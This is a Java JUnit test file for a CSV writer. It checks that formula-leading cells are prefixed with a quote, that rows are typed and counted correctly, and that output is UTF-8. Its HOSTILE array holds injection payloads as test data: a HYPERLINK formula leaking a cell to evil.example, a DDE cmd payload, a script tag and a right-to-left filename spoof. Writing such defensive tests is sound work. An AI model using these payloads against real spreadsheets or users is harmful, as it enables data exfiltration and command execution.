package org.lockstep.io.out;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvWriterTest {
    static final String[] HOSTILE = {
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTAB=1",
        "\r=1",
        "\"]]>",
        "a,b\r\nc\"d\"",
        "nul\0byte",
        "line\u2028sep",
        "\u202Egnp.exe",
        "plain",
        "",
    };

    @Test
    void hostileCellsRoundTripNeutralised() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvWriter w = CsvWriter.of(bytes, "i", "text", "n")) {
            for (int i = 0; i < HOSTILE.length; i++) w.cell(i).cell(HOSTILE[i]).cell(-1.5).endRow();
            assertEquals(HOSTILE.length, w.rows());
        }
        List<List<String>> rows = Rfc4180.parse(bytes.toString(StandardCharsets.UTF_8));
        assertEquals(List.of("i", "text", "n"), rows.get(0));
        assertEquals(HOSTILE.length + 1, rows.size());
        for (int i = 0; i < HOSTILE.length; i++) {
            List<String> r = rows.get(i + 1);
            assertEquals(3, r.size(), "row " + i);
            assertEquals(Integer.toString(i), r.get(0));
            assertEquals("-1.5", r.get(2), "numbers are not neutralised");
            String got = r.get(1), want = HOSTILE[i].replace('\0', '\uFFFD');
            if (!want.isEmpty() && "=+-@\t\r".indexOf(want.charAt(0)) >= 0) {
                assertEquals("'" + want, got, "formula neutralised: " + want);
            } else {
                assertEquals(want, got);
            }
            char first = got.isEmpty() ? 'x' : got.charAt(0);
            assertTrue("=+-@\t\r".indexOf(first) < 0, "no cell may start a formula: " + got);
            assertTrue(got.indexOf('\0') < 0);
        }
    }

    @Test
    void rowHelperTypesAndMissingValues() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvWriter w = CsvWriter.of(bytes, "a", "b", "c", "d", "e")) {
            w.row(7L, 2.0, Double.NaN, true, null);
            w.row(-3, 0.25, 1e-12, false, "=x");
        }
        List<List<String>> rows = Rfc4180.parse(bytes.toString(StandardCharsets.UTF_8));
        assertEquals(List.of("7", "2", "", "true", ""), rows.get(1));
        assertEquals(List.of("-3", "0.25", "1.0E-12", "false", "'=x"), rows.get(2));
        assertEquals(1e-12, Double.parseDouble(rows.get(2).get(2)));
    }

    @Test
    void wrongCellCountIsRefused() {
        CsvWriter w = CsvWriter.of(new ByteArrayOutputStream(), "a", "b");
        w.cell("x");
        assertThrows(IllegalStateException.class, w::endRow);
        w.cell("y");
        assertThrows(IllegalStateException.class, () -> w.cell("z"));
    }

    @Test
    void writesUtf8FileWithoutBom(@TempDir Path dir) throws IOException {
        Path f = dir.resolve("x.csv");
        try (CsvWriter w = CsvWriter.open(f, "h")) {
            w.cell("é€😀").endRow();
        }
        byte[] b = Files.readAllBytes(f);
        assertEquals('h', b[0]);
        assertEquals(List.of(List.of("h"), List.of("é€😀")), Rfc4180.parse(new String(b, StandardCharsets.UTF_8)));
    }

    @Test
    void unguardUndoesTheFormulaGuardAndNothingElse() {
        for (String v : new String[] {"=1+1", "+33 6", "-12345", "@handle", "\tx", "plain", "'quoted", "", "'"}) {
            String written = CsvWriter.escape(v.isEmpty() ? " " : v).strip();
            if (!written.startsWith("\"")) assertEquals(v.isEmpty() ? "" : v.strip(), CsvWriter.unguard(written).strip(), v);
        }
        assertEquals("'-1", CsvWriter.escape("-1"));
        assertEquals("-1", CsvWriter.unguard("'-1"));
        assertEquals("'abc", CsvWriter.unguard("'abc"));
    }
}
